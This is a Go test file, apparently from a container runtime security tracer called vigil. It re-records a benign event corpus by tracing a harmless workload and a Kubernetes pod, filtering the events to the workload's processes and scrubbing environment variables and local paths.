var corpusDropped = map[string]bool{"close": true, "procexit": true, "clone": true, "clone3": true, "fork": true,
	"vfork": true, "chdir": true, "fchdir": true, "sendto": true, "recvfrom": true, "bind": true, "listen": true,
	"accept": true, "accept4": true}

// TestRecordBenign re-records the benign corpus: it traces the whole host
// while the workload runs and keeps the events of the workload's process
// tree and of the containers it started (their runtime processes
// included: runc init, the shim, runc exec of the health check). Runs only
// with -record, as root, with dockerd and containerd.
func TestRecordBenign(t *testing.T) {
	if !*record || (*recordOnly != "" && !regexp.MustCompile(*recordOnly).MatchString("benign-corpus")) {
		t.Skip("re-recording only with -record (testdata/record.sh)")
	}
	testkernel.RequireRoot(t)
	containertest.New(t) // imports the busybox image into containerd's vigiltest namespace
	tmp := t.TempDir()
	vigil := os.Getenv("VIGIL_BIN")
	if vigil == "" {
		vigil = filepath.Join(tmp, "vigil")
		if b, err := exec.Command("go", "build", "-o", vigil, "../cmd/vigil").CombinedOutput(); err != nil {
			t.Fatalf("go build: %v\n%s", err, b)
		}
	}
	work := t.TempDir()
	outPath := filepath.Join(tmp, "trace.jsonl")
	f, err := os.Create(outPath)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	// The CRI pod runs in a private containerd with the CRI plugin on (the
	// host's may not allow pods here); the tracer reads it beside the
	// host's runtimes.
	criDaemon := containertest.StartPrivateContainerdCRI(t)
	tr := exec.CommandContext(ctx, vigil, "trace", "--json", "--runtime-socket", "/run/containerd/containerd.sock",
		"--runtime-socket", "/var/run/docker.sock", "--runtime-socket", criDaemon.Socket)
	tr.Stdout = f
	var stderr bytes.Buffer
	tr.Stderr = &stderr
	tr.Cancel = func() error { return tr.Process.Signal(os.Interrupt) }
	if err := tr.Start(); err != nil {
		t.Fatal(err)
	}
	deadline := time.Now().Add(30 * time.Second)
	for {
		shell(t, `exec /bin/true vigil-rec-ready`, nil)
		if b, _ := os.ReadFile(outPath); bytes.Contains(b, []byte("vigil-rec-ready")) {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("trace never started: %s", stderr.String())
		}
		time.Sleep(100 * time.Millisecond) // retry interval of the marker
	}
	// The script comes on stdin and runs in the scratch directory: the
	// corpus never names the checkout it was recorded in.
	script, err := os.Open("testdata/benign/workload.sh")
	if err != nil {
		t.Fatal(err)
	}
	defer script.Close()
	wl := exec.Command("sh", "-s")
	wl.Stdin = script
	wl.Dir = work
	wl.Env = append(os.Environ(), "W="+work)
	var wlOut bytes.Buffer
	wl.Stdout, wl.Stderr = &wlOut, &wlOut
	if err := wl.Start(); err != nil {
		t.Fatal(err)
	}
	driver := int32(wl.Process.Pid)
	werr := wl.Wait()
	// A Kubernetes pod started through containerd's CRI plugin, as kubelet
	// starts one: the pause sandbox, then a container whose entrypoint is
	// a shell.
	var criIDs []string
	if werr == nil {
		cri := containertest.NewCRI(t, criDaemon.Socket)
		uid := "5e1f0c3a-8b7d-4c2e-9a61-" + containertest.NewID()[:12]
		pod := cri.RunPod(t, "vigil-benign", "web-7d9f", uid, "/kubepods/besteffort/pod"+uid, map[string]string{"app": "web"})
		id, _ := cri.RunContainer(t, pod, "app", []string{"sh", "-c", "echo start >> /tmp/app.log; : > /tmp/app.log; ls / >/dev/null"}, nil)
		cri.WaitExit(t, id, 30*time.Second)
		criIDs = append(criIDs, pod.ID, id)
	}
	time.Sleep(time.Second) // the last events reach the trace
	cancel()
	tr.Wait()
	if werr != nil {
		t.Fatalf("workload: %v\n%s", werr, wlOut.String())
	}
	idsRaw, err := os.ReadFile(filepath.Join(work, "ids"))
	if err != nil {
		t.Fatal(err)
	}
	var ids [][]byte
	for _, l := range append(strings.Fields(string(idsRaw)), criIDs...) {
		ids = append(ids, []byte(l))
	}
	raw, err := os.ReadFile(outPath)
	if err != nil {
		t.Fatal(err)
	}
	rd := event.NewCaptureReader(bufio.NewReader(bytes.NewReader(raw)))
	var kept [][]byte
	for {
		line, err := nextLine(rd)
		if errors.Is(err, io.EOF) {
			break
		}
		if err != nil {
			t.Fatal(err)
		}
		ev := line.ev
		if bytes.Contains(line.raw, []byte("vigil-rec-ready")) || corpusDropped[ev.Type.String()] {
			continue
		}
		ours := false
		for p := ev.Proc; p != nil; p = p.Parent {
			if int32(p.PID) == driver {
				p.Parent = nil // nothing of the recording machine above the workload
				ours = true
				break
			}
		}
		for _, id := range ids {
			if bytes.Contains(line.raw, id) {
				ours = true
			}
		}
		if !ours {
			continue
		}
		stripEnv(&ev)
		for p := ev.Proc; p != nil; p = p.Parent {
			if strings.HasPrefix(p.Comm, "containerd-shim") || p.Comm == "dockerd" || p.Comm == "containerd" {
				p.Parent = nil
				break
			}
		}
		kept = append(kept, scrubCheckout(t, event.AppendJSON(nil, &ev)))
	}
	if len(kept) == 0 {
		t.Fatal("no event of the workload kept")
	}
	var gz bytes.Buffer
	zw, _ := gzip.NewWriterLevel(&gz, gzip.BestCompression)
	zw.Write(bytes.Join(kept, nil))
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(benignCorpus, gz.Bytes(), 0o644); err != nil {
		t.Fatal(err)
	}
	t.Logf("%s: %d events", benignCorpus, len(kept))
}

// scrubCheckout replaces the path of the checkout the capture is recorded
// in (the cwd of host daemons and of the test itself) with /src/vigil: a
// committed capture names no directory of the recording machine.
func scrubCheckout(t *testing.T, line []byte) []byte {
	root, err := filepath.Abs("..")
	if err != nil {
		t.Fatal(err)
	}
	return bytes.ReplaceAll(line, []byte(root+"/"), []byte("/src/vigil/"))
}

// stripEnv drops the environment of the event's exec, process and
// ancestors: runtime processes attributed to a container (runc, the shim)
// and host processes carry the recording machine's environment, which
// stays out of the captures. No default rule reads proc.env.
func stripEnv(ev *event.Event) {
	if ev.Exec != nil {
		ev.Exec.Env = nil
	}
	for p := ev.Proc; p != nil; p = p.Parent {
		p.Env = nil
	}
}
